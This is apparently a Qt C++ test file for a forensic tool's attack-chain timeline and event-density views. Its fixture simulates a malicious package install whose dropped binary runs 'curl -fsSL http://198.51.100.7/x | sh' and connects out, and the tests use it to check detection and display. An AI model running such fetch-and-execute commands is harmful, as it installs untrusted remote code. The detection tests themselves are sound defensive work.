// The chain timeline and the case's density strip (issue 14): what the analyst sees and
// clicks, on chains correlated from hand-built events, and the density counts against
// SQL.

#include "casestore.h"
#include "correlator.h"
#include "densitystrip.h"
#include "explanation.h"
#include "testsupport.h"
#include "timelineview.h"

#include <QDir>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTest>

#include <numeric>

#include <qcustomplot.h>

using namespace Chainscope;
using namespace Chainscope::Test;

namespace {

constexpr qint64 Second = 1000000;
constexpr qint64 Minute = 60 * Second;
constexpr qint64 Hour = 60 * Minute;
constexpr qint64 Day = 24 * Hour;
constexpr qint64 T0 = 1'770'000'000LL * Second; // 2026-02-02 02:40:00 UTC
constexpr qint64 Window = 90 * Minute;

// apt-get installs a package whose postinst drops /usr/local/bin/qwik; the tool runs ten
// minutes later, forks sh -c 'curl … | sh', and curl connects out at `egressAt`.
std::shared_ptr<CaseIndex> maliciousInstall(qint64 egressAt)
{
    auto index = std::make_shared<CaseIndex>();
    Timeline t(*index);
    const qint64 firstRunAt = T0 + 10 * Minute;
    t.exec(T0, 1000, 900, QStringLiteral("/usr/bin/apt-get"), QStringLiteral("apt-get install qwik"))
        .fork(T0 + 1 * Second, 1000, 1001, QStringLiteral("/usr/bin/apt-get"))
        .exec(T0 + 1 * Second + 10, 1001, 1000, QStringLiteral("/usr/lib/apt/methods/http"))
        .connect(T0 + 2 * Second, 1001, QStringLiteral("203.0.113.50"), 80)
        .fork(T0 + 5 * Second, 1000, 1002, QStringLiteral("/usr/bin/apt-get"))
        .exec(T0 + 5 * Second + 10, 1002, 1000, QStringLiteral("/usr/bin/dpkg"), QStringLiteral("dpkg --unpack"))
        .fork(T0 + 6 * Second, 1002, 1003, QStringLiteral("/usr/bin/dpkg"))
        .exec(T0 + 6 * Second + 10, 1003, 1002, QStringLiteral("/bin/sh"),
            QStringLiteral("/bin/sh /var/lib/dpkg/info/qwik.postinst configure"))
        .write(T0 + 7 * Second, 1003, QStringLiteral("/usr/local/bin/qwik"))
        .exit(T0 + 8 * Second, 1003)
        .exit(T0 + 9 * Second, 1002)
        .exit(T0 + 10 * Second, 1000)
        .exec(T0 + 5 * Minute, 2000, 1, QStringLiteral("/bin/bash"))
        .fork(firstRunAt - 10, 2000, 2001, QStringLiteral("/bin/bash"))
        .exec(firstRunAt, 2001, 2000, QStringLiteral("/usr/local/bin/qwik"))
        .fork(firstRunAt + Second, 2001, 2002, QStringLiteral("/usr/local/bin/qwik"))
        .exec(firstRunAt + Second + 10, 2002, 2001, QStringLiteral("/bin/sh"),
            QStringLiteral("sh -c curl -fsSL http://198.51.100.7/x | sh"))
        .fork(egressAt - 2 * Second, 2002, 2003, QStringLiteral("/bin/sh"))
        .exec(egressAt - Second, 2003, 2002, QStringLiteral("/usr/bin/curl"))
        .connect(egressAt, 2003, QStringLiteral("198.51.100.7"), 443);
    t.build();
    return index;
}

Chain onlyChain(const CaseIndex &index, const Policy &policy = Policy::defaults())
{
    Correlator c(index);
    const QList<Chain> chains = c.run(policy);
    return chains.size() == 1 ? chains.first() : Chain();
}

const Evidence *evidenceOf(const Chain &chain, const QString &role)
{
    for (const Evidence &x : chain.evidence) {
        if (x.role == role)
            return &x;
    }
    return nullptr;
}

// A view the size of the workbench's timeline pane, laid out offscreen.
void prepare(QWidget &w)
{
    w.resize(1100, 460);
    w.show();
    QVERIFY(QTest::qWaitForWindowExposed(&w));
}

void shoot(QWidget &w, const QString &name)
{
    const QString dir = qEnvironmentVariable("CHAINSCOPE_TIMELINE_SHOTS");
    if (!dir.isEmpty())
        QVERIFY(w.grab().save(QDir(dir).filePath(name)));
}

QDateTime labelTime(const QString &label)
{
    QDateTime t = QDateTime::fromString(label, QStringLiteral("yyyy-MM-dd\nHH:mm:ss"));
    t.setTimeZone(QTimeZone::utc());
    return t;
}

} // namespace

class Tst_timeline : public QObject
{
    Q_OBJECT
private slots:
    void clickAtAPointEmitsItsEvent();
    void hoverShowsTheEvidence();
    void fitAndResetSetTheirRanges();
    void tickLabelsCarryTheYear();
    void timeZoneShiftsTheLabels_data();
    void timeZoneShiftsTheLabels();
    void nearMissShowsItsGap();
    void multiDayChainKeepsItsStagesApart();
    void approvedEgressIsDrawnAsApproved();
    void busyChainIsSampled_data();
    void busyChainIsSampled();
    void densityBinsAtTheBounds();
    void densityEqualsSqlCountPerBin();
    void densityIsExactOnAnyBins_data();
    void densityIsExactOnAnyBins();
    void densityAtMinuteBoundaries_data();
    void densityAtMinuteBoundaries();
    void rangeSelectionEmitsTheBounds();
};

void Tst_timeline::clickAtAPointEmitsItsEvent()
{
    const auto index = maliciousInstall(T0 + 20 * Minute);
    const Chain chain = onlyChain(*index);
    QVERIFY(chain.isFull());
    TimelineView view;
    prepare(view);
    view.showChain(index, chain, Window);
    QSignalSpy clicked(&view, &TimelineView::eventClicked);
    for (const QString &role : {QStringLiteral("egress"), QStringLiteral("first_run")}) {
        const Evidence *x = evidenceOf(chain, role);
        QVERIFY2(x, qPrintable(role));
        // Zoomed in to ten seconds around it, as the analyst would: the child that
        // started curl a second before the egress shares its pixel at full view.
        const double ex = view.xOfTime(index->events().at(x->eventIndex).timeUs);
        view.plot()->xAxis->setRange(ex - 5, ex + 5);
        view.plot()->replot();
        const QPoint at = view.pointPixel(x->eventId);
        QVERIFY(view.plot()->axisRect()->rect().contains(at));
        clicked.clear();
        QTest::mouseClick(view.plot(), Qt::LeftButton, {}, at);
        QCOMPARE(clicked.size(), 1);
        QCOMPARE(clicked.first().first().toLongLong(), x->eventId);
        QCOMPARE(view.selectedEvent(), x->eventId);
    }
    view.resetZoom();
    // Away from every point: nothing.
    clicked.clear();
    QTest::mouseClick(view.plot(), Qt::LeftButton, {}, QPoint(3, 3));
    QCOMPARE(clicked.size(), 0);
    // selectEvent from elsewhere (the tree): highlighted; an event not drawn clears it.
    view.selectEvent(evidenceOf(chain, QStringLiteral("write"))->eventId);
    QCOMPARE(view.selectedEvent(), evidenceOf(chain, QStringLiteral("write"))->eventId);
    view.selectEvent(-42);
    QCOMPARE(view.selectedEvent(), qint64(-1));
    // Every process with evidence has its lane, named by image and pid.
    QVERIFY(view.laneCount() >= 3);
    QCOMPARE(view.pointCount(TimelineView::PointKind::NearestMiss), 0);
    QVERIFY(view.pointCount(TimelineView::PointKind::Mismatch) >= 1);
    shoot(view, QStringLiteral("timeline-suspicious.png"));
}

void Tst_timeline::hoverShowsTheEvidence()
{
    const auto index = maliciousInstall(T0 + 20 * Minute);
    const Chain chain = onlyChain(*index);
    TimelineView view;
    prepare(view);
    view.showChain(index, chain, Window);
    const Evidence *egress = evidenceOf(chain, QStringLiteral("egress"));
    QVERIFY(egress);
    QVERIFY(!egress->flag.isEmpty());
    const QString tip = view.toolTipAt(view.pointPixel(egress->eventId));
    const IndexedEvent &e = index->events().at(egress->eventIndex);
    QVERIFY2(tip.contains(formatTimeUs(e.timeUs, QTimeZone::utc())), qPrintable(tip));
    QVERIFY2(tip.contains(QLatin1String("curl (2003)")), qPrintable(tip));
    QVERIFY2(tip.contains(egress->target), qPrintable(tip));
    QVERIFY2(tip.contains(egress->reason), qPrintable(tip));
    // The flag in words, never its key.
    QVERIFY2(tip.contains(mismatchLabel(egress->flag)), qPrintable(tip));
    QVERIFY2(!tip.contains(egress->flag), qPrintable(tip));
    QVERIFY(view.toolTipAt(QPoint(2, 2)).isEmpty());
}

void Tst_timeline::fitAndResetSetTheirRanges()
{
    const auto index = maliciousInstall(T0 + 3 * Hour + 2 * Minute);
    const Chain chain = onlyChain(*index);
    QCOMPARE(chain.missingStages.size(), 1);
    TimelineView view;
    prepare(view);
    view.showChain(index, chain, Window);
    double lo = 1e300, hi = -1e300;
    for (const Evidence &x : chain.evidence) {
        lo = qMin(lo, view.xOfTime(index->events().at(x.eventIndex).timeUs));
        hi = qMax(hi, view.xOfTime(index->events().at(x.eventIndex).timeUs));
    }
    view.fitToChain();
    const QCPRange fit = view.plot()->xAxis->range();
    const double pad = (hi - lo) * 0.06;
    QCOMPARE(fit.lower, lo - pad);
    QCOMPARE(fit.upper, hi + pad);
    // Reset: back to everything, the late egress 3 h 02 min out included.
    view.resetZoom();
    const QCPRange all = view.plot()->xAxis->range();
    const double late = view.xOfTime(index->events().at(chain.missingStages.first().nearestEvent).timeUs);
    const double allPad = (late - view.xOfTime(chain.startUs)) * 0.06;
    QCOMPARE(all.lower, view.xOfTime(chain.startUs) - allPad);
    QCOMPARE(all.upper, late + allPad);
    QCOMPARE(view.plot()->yAxis->range().lower, 0.4);
    QCOMPARE(view.plot()->yAxis->range().upper, view.laneCount() + 0.6);
    // The toolbar buttons are the same actions.
    view.plot()->xAxis->setRange(0, 1);
    view.findChild<QAction *>(QStringLiteral("fitToChain"))->trigger();
    QCOMPARE(view.plot()->xAxis->range().lower, fit.lower);
    view.findChild<QAction *>(QStringLiteral("resetZoom"))->trigger();
    QCOMPARE(view.plot()->xAxis->range().upper, all.upper);
}

void Tst_timeline::tickLabelsCarryTheYear()
{
    const auto index = maliciousInstall(T0 + 20 * Minute);
    TimelineView view;
    prepare(view);
    view.showChain(index, onlyChain(*index), Window);
    const QVector<QString> labels = view.plot()->xAxis->tickVectorLabels();
    QVERIFY(labels.size() >= 2);
    for (const QString &l : labels)
        QVERIFY2(l.startsWith(QLatin1String("2026-02-02")), qPrintable(l));
    QVERIFY(view.plot()->xAxis->label().contains(QLatin1String("UTC")));
}

void Tst_timeline::timeZoneShiftsTheLabels_data()
{
    QTest::addColumn<QByteArray>("zone");
    QTest::addColumn<int>("offsetSeconds");
    QTest::newRow("UTC") << QByteArray("UTC") << 0;
    QTest::newRow("Tokyo") << QByteArray("Asia/Tokyo") << 9 * 3600;
    QTest::newRow("New York (EST in February)") << QByteArray("America/New_York") << -5 * 3600;
}

void Tst_timeline::timeZoneShiftsTheLabels()
{
    QFETCH(QByteArray, zone);
    QFETCH(int, offsetSeconds);
    const auto index = maliciousInstall(T0 + 20 * Minute);
    const Chain chain = onlyChain(*index);
    TimelineView view;
    prepare(view);
    view.showChain(index, chain, Window);
    const QTimeZone tz(zone);
    QVERIFY(tz.isValid());
    view.setTimeZone(tz);
    const QVector<double> ticks = view.plot()->xAxis->tickVector();
    const QVector<QString> labels = view.plot()->xAxis->tickVectorLabels();
    QVERIFY(ticks.size() >= 2);
    QCOMPARE(ticks.size(), labels.size());
    for (int i = 0; i < ticks.size(); ++i) {
        const QDateTime wall = labelTime(labels.at(i));
        QVERIFY2(wall.isValid(), qPrintable(labels.at(i)));
        const qint64 realMs = view.timeAtX(ticks.at(i)) / 1000;
        QCOMPARE(qRound64(double(wall.toMSecsSinceEpoch() - realMs) / 1000), qint64(offsetSeconds));
    }
    QVERIFY2(view.plot()->xAxis->label().contains(QString::fromUtf8(zone)), qPrintable(view.plot()->xAxis->label()));
    // The tooltip's time is in the zone too.
    const Evidence *egress = evidenceOf(chain, QStringLiteral("egress"));
    const QString tip = view.toolTipAt(view.pointPixel(egress->eventId));
    QVERIFY2(tip.contains(formatTimeUs(index->events().at(egress->eventIndex).timeUs, tz)), qPrintable(tip));
}

void Tst_timeline::nearMissShowsItsGap()
{
    const auto index = maliciousInstall(T0 + 3 * Hour + 2 * Minute);
    const Chain chain = onlyChain(*index);
    QCOMPARE(chain.missingStages.size(), 1);
    QCOMPARE(chain.missingStages.first().stage, Stage::Egress);
    TimelineView view;
    prepare(view);
    view.showChain(index, chain, Window);
    QCOMPARE(view.pointCount(TimelineView::PointKind::NearestMiss), 1);
    QVERIFY2(view.annotations().contains(QLatin1String("egress +3 h 02 min; window 90 min")),
        qPrintable(view.annotations().join(u'|')));
    QVERIFY(view.annotations().contains(QLatin1String("window 90 min")));
    // Three hours are drawn to scale: no break.
    for (const QString &a : view.annotations())
        QVERIFY2(!a.contains(QLatin1String("skipped")), qPrintable(a));
    const QPoint miss = view.pointPixel(chain.missingStages.first().nearestEventId);
    QVERIFY(view.plot()->axisRect()->rect().contains(miss));
    QVERIFY(view.toolTipAt(miss).contains(QLatin1String("3 h 02 min")));
    shoot(view, QStringLiteral("timeline-nearmiss.png"));
}

void Tst_timeline::multiDayChainKeepsItsStagesApart()
{
    const auto index = maliciousInstall(T0 + 12 * Day);
    const Chain chain = onlyChain(*index);
    QCOMPARE(chain.missingStages.size(), 1);
    TimelineView view;
    prepare(view);
    view.showChain(index, chain, Window);
    QList<int> xs;
    for (const QString &role : {QStringLiteral("installer"), QStringLiteral("first_run")}) {
        const Evidence *x = evidenceOf(chain, role);
        QVERIFY2(x, qPrintable(role));
        xs << view.pointPixel(x->eventId).x();
    }
    xs << view.pointPixel(chain.missingStages.first().nearestEventId).x();
    const int width = view.plot()->axisRect()->width();
    // Install, first run ten minutes later and the egress twelve days later: each in a
    // column of its own, at least a twentieth of the plot apart.
    QVERIFY2(xs.at(1) - xs.at(0) > width / 20, qPrintable(QStringLiteral("%1 %2").arg(xs.at(0)).arg(xs.at(1))));
    QVERIFY2(xs.at(2) - xs.at(1) > width / 20, qPrintable(QStringLiteral("%1 %2").arg(xs.at(1)).arg(xs.at(2))));
    bool skipped = false;
    for (const QString &a : view.annotations())
        skipped = skipped || (a.contains(QLatin1String("11 d")) && a.contains(QLatin1String("skipped")));
    QVERIFY2(skipped, qPrintable(view.annotations().join(u'|')));
    QVERIFY(view.annotations().contains(QLatin1String("egress +12 d; window 90 min")));
    // No tick inside the break, each labelled with its date.
    for (const QString &l : view.plot()->xAxis->tickVectorLabels())
        QVERIFY2(l.startsWith(QLatin1String("2026-02-02")) || l.startsWith(QLatin1String("2026-02-14")), qPrintable(l));
    shoot(view, QStringLiteral("timeline-12days.png"));
}

void Tst_timeline::approvedEgressIsDrawnAsApproved()
{
    const auto index = maliciousInstall(T0 + 20 * Minute);
    Policy policy = Policy::defaults();
    QString error;
    QVERIFY(policy.applyAssignment(QStringLiteral("ApprovedUpdateHosts=198.51.100.7"), &error));
    const Chain chain = onlyChain(*index, policy);
    const Evidence *egress = evidenceOf(chain, QStringLiteral("egress"));
    QVERIFY(egress);
    QVERIFY(!egress->approvedBy.isEmpty());
    TimelineView view;
    prepare(view);
    view.showChain(index, chain, Window);
    QVERIFY(view.pointCount(TimelineView::PointKind::Approved) >= 1);
    const QString tip = view.toolTipAt(view.pointPixel(egress->eventId));
    QVERIFY2(tip.contains(approvalLabel(egress->approvedBy)), qPrintable(tip));
}

void Tst_timeline::busyChainIsSampled_data()
{
    QTest::addColumn<int>("items");
    QTest::addColumn<int>("drawn");
    QTest::newRow("at the cap") << TimelineView::MaxPoints << TimelineView::MaxPoints;
    QTest::newRow("one over") << TimelineView::MaxPoints + 1 << TimelineView::MaxPoints;
    QTest::newRow("far over") << 3 * TimelineView::MaxPoints << TimelineView::MaxPoints;
}

// An update session's thousands of module loads: drawn up to the cap, and every flagged
// one among them kept.
void Tst_timeline::busyChainIsSampled()
{
    QFETCH(int, items);
    QFETCH(int, drawn);
    auto index = std::make_shared<CaseIndex>();
    Timeline t(*index);
    t.exec(T0, 1000, 900, QStringLiteral("/usr/bin/apt-get"));
    for (int i = 0; i < items; ++i)
        t.write(T0 + Second + i * 1000, 1000, QStringLiteral("/usr/lib/x/%1.so").arg(i));
    t.build();
    Chain chain;
    chain.startUs = T0;
    for (int i = 0; i < items; ++i) {
        Evidence x;
        x.eventIndex = i + 1;
        x.eventId = index->events().at(i + 1).id;
        x.stage = Stage::Write;
        x.role = QStringLiteral("write");
        x.node = index->events().at(i + 1).node;
        if (i % 500 == 7)
            x.flag = QStringLiteral("unsigned_module");
        chain.evidence << x;
    }
    TimelineView view;
    view.showChain(index, chain, Window);
    QCOMPARE(view.pointCount(), drawn);
    QCOMPARE(view.pointCount(TimelineView::PointKind::Mismatch), (items - 7 + 499) / 500);
    QCOMPARE(view.laneCount(), 1);
}

// A case with events at the given times, for the density tests; with several sources,
// the times are dealt out among them in turn.
static std::unique_ptr<CaseStore> caseWithTimes(const QString &path, const QList<qint64> &times, int sources = 1)
{
    auto store = CaseStore::create(path);
    for (int s = 0; s < sources; ++s) {
        SourceInfo info;
        info.path = QStringLiteral("times%1.log").arg(s);
        info.format = QStringLiteral("test");
        const qint64 source = store->beginSource(info);
        EventWriter writer(*store, source);
        const qint64 raw = writer.addRaw("x");
        for (qsizetype i = s; i < times.size(); i += sources) {
            Event e;
            e.timeUs = times.at(i);
            e.kind = EventKind::LogMessage;
            writer.add(e, raw);
        }
        ImportCounts counts;
        counts.recordsRead = times.size();
        writer.finish(counts);
    }
    return store;
}

// The density by the definition: a COUNT(*) over the events of each bucket.
static QList<qint64> densityCountedFromEvents(CaseStore &store, qint64 fromUs, qint64 toUs, int bins)
{
    const qint64 width = CaseStore::densityBinWidth(fromUs, toUs, bins);
    QList<qint64> counts;
    Statement st(
        store.database(), "SELECT count(*) FROM events WHERE time_us >= ?1 AND time_us < ?2 AND time_us <= ?3");
    for (int b = 0; b < bins; ++b) {
        st.bind(1, fromUs + b * width).bind(2, fromUs + (b + 1) * width).bind(3, toUs);
        st.step();
        counts.append(st.int64(0));
        st.reset();
    }
    return counts;
}

void Tst_timeline::densityBinsAtTheBounds()
{
    QTemporaryDir dir;
    // Four buckets of 250 µs over [1000, 1999]; one event a µs outside either end.
    auto store = caseWithTimes(dir.filePath(QStringLiteral("c.chainscope")), {999, 1000, 1249, 1250, 1999, 2000});
    QCOMPARE(store->eventTimeRange(), std::make_optional(std::make_pair(qint64(999), qint64(2000))));
    QCOMPARE(CaseStore::densityBinWidth(1000, 1999, 4), qint64(250));
    QCOMPARE(store->eventDensity(1000, 1999, 4), (QList<qint64> {2, 1, 0, 1}));
    // The bounds moved by one µs each way.
    QCOMPARE(store->eventDensity(999, 1999, 4), (QList<qint64> {3, 1, 0, 1})); // width 251: 999…1249
    QCOMPARE(store->eventDensity(1001, 1999, 4), (QList<qint64> {2, 0, 0, 1})); // 1001…1250 holds 1249, 1250
    QCOMPARE(store->eventDensity(1000, 2000, 4), (QList<qint64> {3, 0, 0, 2})); // width 251
    QCOMPARE(store->eventDensity(1000, 1998, 4), (QList<qint64> {2, 1, 0, 0}));
    QVERIFY(store->eventDensity(1000, 999, 4).isEmpty());
    QVERIFY(store->eventDensity(1000, 1999, 0).isEmpty());
    QCOMPARE(store->eventDensity(1000, 1000, 1), (QList<qint64> {1}));
    QTemporaryDir empty;
    QVERIFY(!CaseStore::create(empty.filePath(QStringLiteral("e.chainscope")))->eventTimeRange());
}

void Tst_timeline::densityEqualsSqlCountPerBin()
{
    QTemporaryDir dir;
    QList<qint64> times;
    quint64 x = 88172645463325252ULL;
    for (int i = 0; i < 5000; ++i) { // xorshift: deterministic, uneven
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        times << T0 + qint64(x % quint64(30 * Day));
    }
    auto store = caseWithTimes(dir.filePath(QStringLiteral("c.chainscope")), times);
    const auto range = store->eventTimeRange();
    QVERIFY(range);
    const int bins = 97;
    const QList<qint64> counts = store->eventDensity(range->first, range->second, bins);
    QCOMPARE(counts.size(), bins);
    const qint64 width = CaseStore::densityBinWidth(range->first, range->second, bins);
    qint64 total = 0;
    for (int b = 0; b < bins; ++b) {
        Statement st(store->database(), "SELECT count(*) FROM events WHERE time_us >= ?1 AND time_us < ?2");
        st.bind(1, range->first + b * width).bind(2, range->first + (b + 1) * width);
        QVERIFY(st.step());
        QCOMPARE(counts.at(b), st.int64(0));
        total += counts.at(b);
    }
    QCOMPARE(total, qint64(times.size()));

    // The strip shows the same numbers.
    DensityStrip strip;
    strip.resize(900, 120);
    strip.show();
    QVERIFY(QTest::qWaitForWindowExposed(&strip));
    strip.setStore(store.get());
    QVERIFY(strip.counts().size() >= 20);
    QCOMPARE(strip.counts(), store->eventDensity(range->first, range->second, int(strip.counts().size())));
    QCOMPARE(strip.binFromUs(), range->first);
    QVERIFY(strip.plot()->xAxis->tickVectorLabels().first().startsWith(QLatin1String("2026-")));
    strip.markChainSpan(T0 + Day, T0 + 2 * Day);
    shoot(strip, QStringLiteral("density.png"));
}

// Issue 15: the strip sums the minutes written at import and counts only the cut
// minutes on the events. Against COUNT(*) per bucket on bins aligned to minutes, on bins
// that cut minutes, bins narrower than a minute, across 1970, with three sources whose
// events share minutes and with events on and beside minute boundaries.
static QList<qint64> densityTimes()
{
    QList<qint64> times;
    quint64 x = 88172645463325252ULL;
    const auto next = [&x]() { // xorshift: deterministic, uneven
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        return x;
    };
    for (int i = 0; i < 3000; ++i)
        times << T0 - 2 * Hour + qint64(next() % quint64(6 * Hour));
    for (int i = 0; i < 500; ++i)
        times << -3 * Hour + qint64(next() % quint64(6 * Hour));
    for (int i = 0; i < 200; ++i) // a burst inside one minute
        times << T0 + 7 * Minute + 20 * Second + qint64(next() % quint64(20 * Second));
    for (const qint64 m : {T0, T0 + Minute, T0 + 7 * Minute, qint64(0), -Minute, -2 * Hour})
        times << m - 1 << m << m + 1;
    return times;
}

void Tst_timeline::densityIsExactOnAnyBins_data()
{
    QTest::addColumn<qint64>("fromUs");
    QTest::addColumn<qint64>("toUs");
    QTest::addColumn<int>("bins");
    QTest::newRow("one minute per bin") << T0 - 2 * Hour << T0 + 4 * Hour - 1 << 360;
    QTest::newRow("ten minutes per bin") << T0 - 2 * Hour << T0 + 4 * Hour - 1 << 36;
    QTest::newRow("bins that cut minutes") << T0 - 2 * Hour + 17 * Second + 3 << T0 + 4 * Hour - 5 << 97;
    QTest::newRow("bins narrower than a minute") << T0 - 5 * Minute + 1 << T0 + 9 * Minute << 173;
    QTest::newRow("inside one minute") << T0 + 7 * Minute + 10 * Second << T0 + 7 * Minute + 50 * Second << 7;
    QTest::newRow("across 1970, a minute per bin") << -3 * Hour << 3 * Hour - 1 << 360;
    QTest::newRow("across 1970, cut minutes") << -3 * Hour + 1 << 3 * Hour + 7 << 101;
    QTest::newRow("one µs") << T0 << T0 << 1;
    QTest::newRow("no events") << T0 + 10 * Hour << T0 + 11 * Hour << 10;
    QTest::newRow("whole case") << qint64(-1) << qint64(-1) << 400; // -1: eventTimeRange()
}

void Tst_timeline::densityIsExactOnAnyBins()
{
    QFETCH(qint64, fromUs);
    QFETCH(qint64, toUs);
    QFETCH(int, bins);
    QTemporaryDir dir;
    const QList<qint64> times = densityTimes();
    auto store = caseWithTimes(dir.filePath(QStringLiteral("c.chainscope")), times, 3);
    if (fromUs == -1 && toUs == -1) {
        const auto range = store->eventTimeRange();
        QVERIFY(range);
        fromUs = range->first;
        toUs = range->second;
    }
    const QList<qint64> counts = store->eventDensity(fromUs, toUs, bins);
    QCOMPARE(counts, densityCountedFromEvents(*store, fromUs, toUs, bins));
    qint64 inRange = 0;
    for (const qint64 t : times)
        inRange += t >= fromUs && t <= toUs ? 1 : 0;
    QCOMPARE(std::accumulate(counts.begin(), counts.end(), qint64(0)), inRange);
}

// A bucket boundary on a minute boundary and one µs either side of it, with events at
// the minute's start and one µs either side; and a minute that a boundary cuts in two:
// its events are counted on each side by their time, not all in the bucket that holds
// the minute's start. In 2026 and before 1970.
void Tst_timeline::densityAtMinuteBoundaries_data()
{
    QTest::addColumn<qint64>("minute"); // the start of the minute the tests are around
    QTest::addColumn<qint64>("fromUs"); // relative to `minute`
    QTest::addColumn<qint64>("toUs");
    QTest::addColumn<int>("bins");
    QTest::addColumn<QList<qint64>>("counts");
    for (const qint64 m : {T0 + 3 * Minute, qint64(0), -Minute}) {
        const QByteArray at = m > 0 ? "2026" : m == 0 ? "1970" : "1969";
        // Events (relative to m): -1, 0, +1, 10 s, 20 s, 40 s, 50 s, 60 s.
        QTest::addRow("%s: boundary on the minute", at.constData())
            << m << -30 * Second << 30 * Second - 1 << 2 << QList<qint64> {1, 4};
        QTest::addRow("%s: boundary a µs after the minute", at.constData())
            << m << -30 * Second + 1 << 30 * Second << 2 << QList<qint64> {2, 3};
        QTest::addRow("%s: boundary a µs before the minute", at.constData())
            << m << -30 * Second - 1 << 30 * Second - 2 << 2 << QList<qint64> {0, 5};
        QTest::addRow("%s: the minute cut at 30 s", at.constData())
            << m << -30 * Second << 90 * Second - 1 << 4 << QList<qint64> {1, 4, 2, 1};
        QTest::addRow("%s: the minute cut at 15 s and 45 s", at.constData())
            << m << -15 * Second << 75 * Second - 1 << 3 << QList<qint64> {4, 2, 2};
        QTest::addRow("%s: the range ends inside the minute", at.constData())
            << m << Second << 45 * Second << 1 << QList<qint64> {3};
    }
}

void Tst_timeline::densityAtMinuteBoundaries()
{
    QFETCH(qint64, minute);
    QFETCH(qint64, fromUs);
    QFETCH(qint64, toUs);
    QFETCH(int, bins);
    QFETCH(QList<qint64>, counts);
    QTemporaryDir dir;
    QList<qint64> times;
    for (const qint64 t :
        {qint64(-1), qint64(0), qint64(1), 10 * Second, 20 * Second, 40 * Second, 50 * Second, Minute})
        times << minute + t;
    auto store = caseWithTimes(dir.filePath(QStringLiteral("c.chainscope")), times, 2);
    QCOMPARE(store->eventDensity(minute + fromUs, minute + toUs, bins), counts);
    QCOMPARE(densityCountedFromEvents(*store, minute + fromUs, minute + toUs, bins), counts);
}

void Tst_timeline::rangeSelectionEmitsTheBounds()
{
    QTemporaryDir dir;
    auto store = caseWithTimes(dir.filePath(QStringLiteral("c.chainscope")), {T0, T0 + Hour, T0 + 10 * Hour});
    DensityStrip strip;
    strip.resize(900, 120);
    strip.show();
    QVERIFY(QTest::qWaitForWindowExposed(&strip));
    strip.setStore(store.get());
    QSignalSpy selected(&strip, &DensityStrip::rangeSelected);
    QSignalSpy cleared(&strip, &DensityStrip::selectionCleared);
    const QRect r = strip.plot()->axisRect()->rect();
    const QPoint from(r.left() + 100, r.center().y());
    const QPoint to(r.left() + 400, r.center().y());
    QTest::mousePress(strip.plot(), Qt::LeftButton, {}, from);
    QTest::mouseMove(strip.plot(), to);
    QTest::mouseRelease(strip.plot(), Qt::LeftButton, {}, to);
    QCOMPARE(selected.size(), 1);
    const qint64 a = selected.first().at(0).toLongLong();
    const qint64 b = selected.first().at(1).toLongLong();
    QCOMPARE(a, strip.timeAtPixel(from.x()));
    QCOMPARE(b, strip.timeAtPixel(to.x()));
    QVERIFY(T0 < a && a < b && b < T0 + 10 * Hour);
    QCOMPARE(strip.selection(), std::make_optional(std::make_pair(a, b)));
    // A click clears it.
    QTest::mouseClick(strip.plot(), Qt::LeftButton, {}, to);
    QCOMPARE(cleared.size(), 1);
    QVERIFY(!strip.selection());
    strip.clearSelection(); // nothing left to clear: no signal
    QCOMPARE(cleared.size(), 1);
}

QTEST_MAIN(Tst_timeline)
#include "tst_timeline.moc"
